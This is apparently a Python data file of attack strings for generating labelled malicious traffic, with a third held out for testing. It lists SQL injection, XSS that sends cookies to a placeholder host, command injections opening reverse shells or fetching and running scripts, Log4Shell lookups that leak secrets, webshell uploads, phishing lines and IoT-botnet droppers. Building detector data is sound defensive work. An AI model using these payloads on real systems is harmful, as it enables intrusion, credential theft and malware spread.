"""The texts of the attacks. A third of each list (every third entry) is kept out of the recording used for training."""

# Values of a query or form field.
VALUES = [
    # SQL injection
    "1' OR '1'='1", "{N}' UNION SELECT username,password FROM {T}--", "1; DROP TABLE {T};--", "' OR 1=1#", "1' AND SLEEP(5)-- -",
    "{N} UNION ALL SELECT NULL,NULL,CONCAT(0x7178,user(),0x71)-- ", "'; EXEC xp_cmdshell('dir c:\\');--", "1' AND (SELECT {N} FROM information_schema.tables)>0--",
    "1) OR BENCHMARK(5000000,MD5({N}))#", "admin'--", "' UNION SELECT @@version,2,3--", "1' WAITFOR DELAY '0:0:5'--",
    "-1' UNION SELECT 1,LOAD_FILE('/etc/passwd'),3-- -", "' HAVING 1=1--", "1 AND EXTRACTVALUE({N},CONCAT(0x5c,version()))",
    "1' INTO OUTFILE '/var/www/html/{H}.php'-- ", "1' GROUP BY {N},2 HAVING 1=1--", "1 or pg_sleep(9)--", "' or ''='", "1/**/UNION/**/SELECT/**/{N},2",
    "1' AND ORD(MID((SELECT IFNULL(CAST(name AS CHAR),0x20) FROM {T}),1,1))>64 AND 'x'='x", "1' ORDER BY {N}--+",
    # path traversal and file inclusion
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//....//etc/shadow", "/etc/passwd\x00.html", "file:///etc/hosts",
    "php://filter/convert.base64-encode/resource=index.php", "../../../../proc/self/environ", "http://{A}/shell{N}.txt?", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg==",
    "..%c0%af..%c0%af..%c0%afetc/passwd", "..%252f..%252f..%252fboot.ini", "C:\\boot.ini", "expect://id", "../../../var/log/apache2/access.log",
    # cross-site scripting
    "<script>alert({N})</script>", "\"><img src=x onerror=alert({N})>", "<svg/onload=confirm({N})>", "javascript:alert(document.cookie)",
    "<iframe src=javascript:alert({N})>", "'\"><script>new Image().src='http://{A}/?'+document.cookie</script>", "<body onload=alert('{H}')>",
    "<scr<script>ipt>alert({N})</scr</script>ipt>", "<a href=\"javascript:eval(atob('YWxlcnQoMSk='))\">x</a>", "<input autofocus onfocus=alert({N})>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert({N})>", "\u003cscript\u003eprompt({N})\u003c/script\u003e",
    "<details open ontoggle=alert({N})>", "String.fromCharCode(88,83,83)",
    # command injection
    ";cat /etc/passwd", "|id", "`wget http://{A}/x.sh -O /tmp/{H}`", "$(curl http://{A}/{H}|sh)", "127.0.0.1 && whoami", "; nc -e /bin/sh {A} {N}",
    "| ping -c 10 {A}", "a;bash -i >& /dev/tcp/{A}/{N} 0>&1", "x|powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", "; rm -rf /tmp/{H}; ls -la",
    "& dir c:\\ &", "%0a/usr/bin/id%0a", "||python3 -c 'import socket,os,pty'", ";chmod 777 /tmp/{H};/tmp/{H}", "$IFS$9cat$IFS/etc/passwd",
    # expression and template injection
    "${jndi:ldap://{A}:1389/{H}}", "${${lower:j}ndi:${lower:l}dap://{A}/{H}}", "${jndi:rmi://{A}:1099/{H}}", "{{7*7}}", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}", "<%= system('id') %>", "#{7*{N}}", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
    "${jndi:dns://{A}/${env:AWS_SECRET_ACCESS_KEY}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "${::-j}${::-n}${::-d}${::-i}:ldap://{A}/{H}",
    # others
    "*)(uid=*))(|(uid=*", "*)(&(objectClass=*)", "x\r\nSet-Cookie: admin=1", "x%0d%0aLocation:%20http://{A}/", "' or count(/*)=1 or 'a'='b", "{\"$gt\":\"\"}",
    "{\"$where\":\"sleep({N})\"}", "%s%s%s%s%s%n%n%n", "%x.%x.%x.%x.%x.%x.%n", "O:8:\"stdClass\":1:{s:3:\"cmd\";s:2:\"id\";}",
    "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==", "AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0=", "http://169.254.169.254/latest/meta-data/", "gopher://127.0.0.1:6379/_FLUSHALL",
    "http://localhost:8080/manager/html", "__proto__[isAdmin]=true", "constructor.prototype.{H}=1", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
]

# Paths that nobody links to.
PATHS = [
    "/.git/config", "/.git/HEAD", "/.env", "/.aws/credentials", "/.svn/entries", "/.DS_Store", "/.htpasswd", "/.ssh/id_rsa", "/wp-login.php", "/wp-config.php.bak",
    "/wp-admin/setup-config.php", "/wp-content/plugins/revslider/temp/update_extract/{H}.php", "/xmlrpc.php?rsd", "/phpmyadmin/index.php?lang=en", "/pma/scripts/setup.php",
    "/phpinfo.php", "/server-status?auto", "/manager/html", "/jmx-console/HtmlAdaptor", "/solr/admin/cores?wt=json", "/actuator/env", "/actuator/heapdump",
    "/console/login/LoginForm.jsp", "/cgi-bin/test-cgi", "/cgi-bin/php?-d+allow_url_include%3Don+-d+auto_prepend_file%3Dphp://input", "/cgi-bin/../../../../bin/sh",
    "/scripts/..%255c../winnt/system32/cmd.exe?/c+dir", "/scripts/root.exe?/c+dir", "/msadc/..%c0%af../winnt/system32/cmd.exe?/c+dir+c:\\", "/default.ida?NNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNN%u9090%u6858%ucbd3%u7801",
    "/backup.sql", "/db.sql.gz", "/dump.tar.gz", "/config.php~", "/web.config.bak", "/id_rsa", "/admin/config.php", "/administrator/index.php?option=com_{H}",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]={H}",
    "/shell.php?cmd=id", "/uploads/c99.php", "/images/r57.php?act=cmd&cmd=whoami", "/cmd.jsp?cmd=cat+/etc/passwd", "/x.aspx?z0=UmVzcG9uc2UuV3JpdGU=", "/b374k.php",
    "/HNAP1/", "/boaform/admin/formLogin?username=admin&psd=admin", "/GponForm/diag_Form?images/", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=wget+http://{A}/m",
    "/shell?cd+/tmp;rm+-rf+*;wget+http://{A}/arm7;sh+/tmp/arm7", "/tmUnblock.cgi", "/login.cgi?cli=aa%20aa%27;wget%20http://{A}/a%20-O%20-%3E%20/tmp/k;sh%20/tmp/k%27$",
    "/nmaplowercheck{N}", "/nice%20ports%2C/Tri%6Eity.txt%2ebak", "/evox/about", "/sdk/../../../../etc/vmware/hostd/vmInventory.xml", "/robots.txt.bak", "/owa/auth/logon.aspx?url=x",
    "/autodiscover/autodiscover.json?@x.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3f@x.example", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
    "/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/", "/vpns/portal/scripts/newbm.pl", "/..;/manager/html", "/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "/static/%5c%5c{A}%5cshare%5c{H}", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "/icons/.%%32%65/.%%32%65/etc/passwd", "/?XDEBUG_SESSION_START=phpstorm", "/ws_utc/config.do",
    "/_ignition/execute-solution", "/api/v1/namespaces/default/secrets", "/v2/_catalog", "/v1.24/containers/json", "/_search?source={H}", "/hudson/script", "/script", "/geoserver/web/",
]

# Tools that name themselves.
AGENTS = [
    "sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "gobuster/3.6", "DirBuster-1.0-RC1 (http://www.owasp.org)", "WPScan v3.8.25 (https://wpscan.com)", "Mozilla/5.0 zgrab/0.x",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "Acunetix-Product", "w3af.org", "Havij", "python-requests/2.31.0", "Go-http-client/1.1", "Hello, World",
    "Fuzz Faster U Fool v2.1.0", "feroxbuster/2.10.1", "Mozilla/5.0 (compatible; Nessus)", "OpenVAS-VT 23.1", "commix/v3.9", "Wfuzz/3.1.0", "Arachni/v1.6", "httpx - Open-source project",
    "dirsearch", "curl/7.29.0; () { :; }; /bin/true", "Mozilla/5.0 Jorgee", "ZmEu", "Morfeus Scanner", "Mozlila/5.0 (Linux; Android 7.0)", "Netsparker", "Paros/3.2.13", "jaeles",
]

# Header lines.
HEADERS = [
    "User-Agent: () { :;}; /bin/bash -c 'cat /etc/passwd'", "X-Api-Version: ${jndi:ldap://{A}/a{N}}", "Cookie: () { ignored; }; /usr/bin/wget http://{A}/{H}",
    "Referer: ${jndi:${lower:l}${lower:d}ap://{A}/{H}}", "X-Forwarded-For: 127.0.0.1' OR SLEEP(5)-- ", "Content-Type: %{(#nike='multipart/form-data').(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd))}",
    "X-Original-URL: /admin", "Host: {A}:22@127.0.0.1", "Proxy: http://{A}:8080/", "X-Forwarded-Host: evil{N}.example\"><script src=//{A}>", "Authorization: Basic ${jndi:ldap://{A}/{H}}",
    "Accept: ../../../../../../../../etc/passwd{{", "Cookie: rememberMe=deleteMe; JSESSIONID=../../../../etc/{H}", "X-HTTP-Method-Override: PUT' AND 1=1--", "User-Agent: <?php system($_GET['c']); ?>",
    "If-Modified-Since: ${sys:java.version}${jndi:iiop://{A}/}", "Expect: <script>alert({N})</script>", "Transfer-Encoding: xchunked", "Next-Middleware: middleware:middleware:middleware:middleware",
    "x-middleware-subrequest: src/middleware:nowaf", "Range: bytes=0-18446744073709551615", "Connection: close, X-Real-IP, X-F5-Auth-Token", "Translate: f", "Cookie: admin=1; PHPSESSID={H}%00' UNION SELECT 1--",
]

# Bodies: content type and text.
POSTS = [
    ("application/xml", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>"),
    ("application/x-www-form-urlencoded", "cmd=system('id');&z0=QGluaV9zZXQoImRpc3BsYXlfZXJyb3JzIiwiMCIpOw=="),
    ("application/xml", "<!DOCTYPE l [<!ENTITY a \"lol\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;\">]><l>&c;</l>"),
    ("multipart/form-data; boundary=x{H}", "--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{H}.php\"\r\nContent-Type: image/gif\r\n\r\nGIF89a<?php @eval($_POST['{H}']); ?>\r\n--x--\r\n"),
    ("application/json", "{\"username\":{\"$ne\":null},\"password\":{\"$ne\":null}}"),
    ("multipart/form-data; boundary=y{H}", "--y\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../{H}.jsp\"\r\n\r\n<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>\r\n--y--\r\n"),
    ("text/xml", "<methodCall><methodName>wp.getUsersBlogs</methodName><params><param><value>admin</value></param><param><value>{H}</value></param></params></methodCall>"),
    ("application/json", "{\"query\":\"query IntrospectionQuery { __schema { types { name fields { name } } } }\"}"),
    ("application/x-www-form-urlencoded", "username=admin'%20OR%20'1'%3D'1'--%20&password={H}"),
    ("text/xml", "<methodCall><methodName>system.multicall</methodName><params><param><value><array><data></data></array></value></param></params></methodCall>"),
    ("application/x-www-form-urlencoded", "data=O:14:\"Illuminate\\Bus\":1:{s:6:\"events\";O:15:\"Faker\\Generator\":1:{s:1:\"x\";s:6:\"system\";}}"),
    ("application/json", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://{A}:1389/{H}\",\"autoCommit\":true}"),
    ("text/xml", "<java><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\"><void index=\"0\"><string>id</string></void></array><void method=\"start\"/></object></java>"),
    ("application/json", "{\"$where\":\"this.password.length > {N} || sleep(3000)\"}"),
    ("application/x-www-form-urlencoded", "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT"),
    ("application/soap+xml", "<soapenv:Envelope><soapenv:Body><u:NewStatusURL>$(/bin/busybox wget -g {A} -l /tmp/{H})</u:NewStatusURL></soapenv:Body></soapenv:Envelope>"),
    ("application/x-yaml", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://{A}/{H}.jar\"]]]]"),
    ("application/json", "{\"__proto__\":{\"shell\":\"/proc/self/exe\",\"NODE_OPTIONS\":\"--require /proc/self/environ\"}}"),
]

# Whole lines of a mail's header or body.
SMTP = [
    "X-Run: () { :; }; /bin/sh -c 'wget http://{A}/{H}'", "Subject: ${run{/bin/sh -c 'id'}}", "Content-Disposition: attachment; filename=\"invoice_{N}.pdf.exe\"\r\n\r\nTVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAA",
    "Content-Type: application/octet-stream; name=\"scan{N}.js\"\r\n\r\nvar s=new ActiveXObject('WScript.Shell');s.Run('powershell -w hidden -enc {H}')", "Please verify your account at http://{A}/login.php?user=alice&token={H}",
    "<iframe src=\"http://{A}/exploit/{H}\" width=1 height=1></iframe>", "Content-Disposition: attachment; filename=\"order.docm\"\r\n\r\nSub AutoOpen()\r\nShell \"cmd /c certutil -urlcache -f http://{A}/{H}.exe\"\r\nEnd Sub",
    "Content-Type: text/plain; charset=\"" + "A" * 400 + "\"", "Bcc: ${run{${substr{0}{1}{$spool_directory}}bin${substr{0}{1}{$spool_directory}}sh}}@x.example", "<form action=http://{A}/collect method=post><input type=password name=pin>",
    "Your mailbox is over quota: <a href=\"http://{A}/owa/?id={H}\">http://mail.campus.example/</a>", "Send 0.{N} bitcoin to the address below within 48 hours or your files are published",
    "X-Mailer: ${jndi:ldap://{A}/{H}}", "begin 644 payload{N}.scr\r\nM35J0``,````$````__\\``+@`````````0``````````````", "Content-Type: text/html\r\n\r\n<script>document.location='http://{A}/'+document.cookie</script>",
]

FTP = [
    "PORT 192,0,2,25,0,25", "SITE EXEC /bin/sh -c id", "RETR ../../../../etc/passwd", "PORT 127,0,0,1,0,22", "CWD ~root", "RETR /etc/shadow", "EPRT |1|192.0.2.25|6000|", "SITE CPFR /proc/self/cmdline",
    "SITE CPTO /var/www/html/{H}.php", "LIST ~{{{{{{{{{{", "CWD ../../../../../..", "STOR ../../../www/{H}.php", "SITE CHMOD 4755 /bin/sh", "RETR ..\\..\\..\\boot.ini", "USER root:)", "MKD %s%s%s%s%n",
    "USER %08x.%08x.%08x", "STOR autorun.inf", "RNFR /etc/passwd", "DELE /etc/ftpusers", "STAT */../*/../*/../*", "QUOTE SITE INDEX %p%p%p", "RETR .bash_history", "STOR .rhosts",
]

IMAP = [
    "a1 AUTHENTICATE {N}{N}{N}{N}", "a1 LIST \"\" /etc/passwd", "a1 LOGIN {2147483647}", "a1 SELECT ../../../../etc/passwd", "USER ../../etc/{H}", "APOP root %n%n%n%n%n%n", "a1 LSUB \"\" {4294967295}",
    "TOP 1 2147483648", "a1 FETCH 1:* (BODY[../../{H}])", "a1 CREATE %s%s%s%s%n", "PASS $(id)", "a1 PARTIAL 1 BODY[{N}{N}{N}] 1 1",
]

DNS_NAMES = [
    "etc-passwd.exfil.campus.example", "aaaa.burp{N}.oastify.example", "cmd-whoami.c2.campus.example", "x.interact.sh.example", "beacon.stage.4444.campus.example", "wpad.campus.example", "isatap.campus.example",
    "www.campus.example.evil.example", "xn--cmpus-3ve.example",
]

# What else speaks in plain lines: port, lines.
LINES = [
    (4444, ["bash -i >& /dev/tcp/{A}/4444 0>&1\n", "id; uname -a\n", "uid=0(root) gid=0(root) groups=0(root)\n"]),
    (23, ["root\r\n", "xc3511\r\n", "enable\r\nsystem\r\nshell\r\nsh\r\n", "/bin/busybox MIRAI\r\n", "cat /proc/mounts; /bin/busybox {H}\r\n"]),
    (6379, ["CONFIG SET dir /root/.ssh\r\n", "CONFIG SET dbfilename authorized_keys\r\n", "SAVE\r\n"]),
    (4444, ["Microsoft Windows [Version 10.0.19045]\r\n(c) Microsoft Corporation.\r\nC:\\Windows\\system32>whoami\r\n", "net user hacker{N} P@ss{N} /add\r\n"]),
    (23, ["admin\r\n", "7ujMko0admin\r\n", "wget http://{A}/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp -g -r {H} {A}\r\n"]),
    (6379, ["SLAVEOF {A} 6379\r\n", "MODULE LOAD /tmp/{H}.so\r\n", "EVAL \"return os.execute('id')\" 0\r\n"]),
    (6667, ["NICK [BOT]|{N}\r\nUSER x x x :x\r\n", "JOIN ##owned{N} key\r\n", "PRIVMSG ##owned{N} :!ddos.syn 192.0.2.1 80 60\r\n"]),
    (445, ["\x00\x00\x00\x54\xffSMB\x72\x00\x00\x00\x00\x18\x01\x28" + "\x00" * 20 + "\x00\x31\x00\x02NT LM 0.12\x00", "\\PIPE\\\x00\x23\x00\x00\x00\x07\x00\\PIPE\\\x00"]),
    (5060, ["OPTIONS sip:100@192.0.2.40 SIP/2.0\r\nUser-Agent: friendly-scanner\r\nFrom: \"sipvicious\"<sip:100@203.0.113.9>\r\n\r\n"]),
    (9000, ["\x01\x01\x00\x01\x00\x08\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x01\x04\x00\x01PHP_VALUEauto_prepend_file = php://input", "<?php system('id');?>"]),
    (11211, ["\x00\x01\x00\x00\x00\x01\x00\x00stats\r\n", "\x00\x02\x00\x00\x00\x01\x00\x00get {H}\r\n"]),
    (161, ["\x30\x26\x02\x01\x01\x04\x06public\xa1\x19\x02\x04\x01\x02\x03\x04\x02\x01\x00\x02\x01\x00\x30\x0b\x30\x09\x06\x05\x2b\x06\x01\x02\x01\x05\x00",
           "\x30\x27\x02\x01\x01\x04\x07private\xa1\x19\x02\x04\x01\x02\x03\x05\x02\x01\x00\x02\x01\x00\x30\x0b\x30\x09\x06\x05\x2b\x06\x01\x02\x01\x05\x00"]),
    (5432, ["COPY cmd_exec FROM PROGRAM 'id';\x00", "SELECT lo_import('/etc/passwd', {N});\x00", "CREATE FUNCTION sys_eval RETURNS string SONAME 'lib{H}.so';\x00"]),
    (4444, ["#!/bin/sh\ncd /tmp || cd /var/run; for a in mips mipsel arm7 x86; do wget http://{A}/$a -O {H}; chmod +x {H}; ./{H}; done\n"]),
    (1900, ["M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: \"ssdp:discover\"\r\nMX: 3\r\nST: uuid:$(reboot)\r\n\r\n"]),
    (9000, ["GIOP\x01\x00\x01\x00\x00\x00\x00\x24", "t3 12.2.1\nAS:255\nHL:19\nMS:10000000\n\n", "\xac\xed\x00\x05sr\x00\x11java.util.HashMap"]),
    (4444, ["MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + "\x00" * 60 + "This program cannot be run in DOS mode.\r\r\n$"]),
    (23, ["support\r\n", "echo -e '\\x7f\\x45\\x4c\\x46' > /tmp/{H}; /bin/busybox ECCHI; cat /bin/echo\r\n", "iptables -F; /etc/init.d/iptables stop\r\n"]),
]
